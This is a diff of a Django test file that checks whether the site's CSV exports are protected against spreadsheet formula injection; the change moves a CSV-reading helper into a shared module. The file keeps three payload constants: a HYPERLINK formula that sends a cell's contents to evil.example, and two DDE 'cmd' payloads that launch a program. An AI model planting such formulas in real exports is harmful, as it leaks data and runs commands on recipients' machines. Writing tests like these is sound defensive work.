@@ -1,12 +1,11 @@
 """Formula injection: no CSV the site writes lets a spreadsheet run a cell as a formula."""
 
-import csv
-import io
 
 import pytest
 from django.urls import reverse
 
 from ptce_site.exports import spreadsheet_safe
+from tests.admin_helpers import read_csv
 from tests.factories import MembershipFactory, OrganisationFactory, PoleFactory
 
 pytestmark = pytest.mark.django_db
@@ -14,10 +13,6 @@ pytestmark = pytest.mark.django_db
 HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")'
 CMD = "+cmd|' /C calc'!A0"
 SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
-
-
-def read_csv(response, delimiter=";") -> list[list[str]]:
-    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=delimiter))
 
 
 def runs_as_formula(cell: str) -> bool:
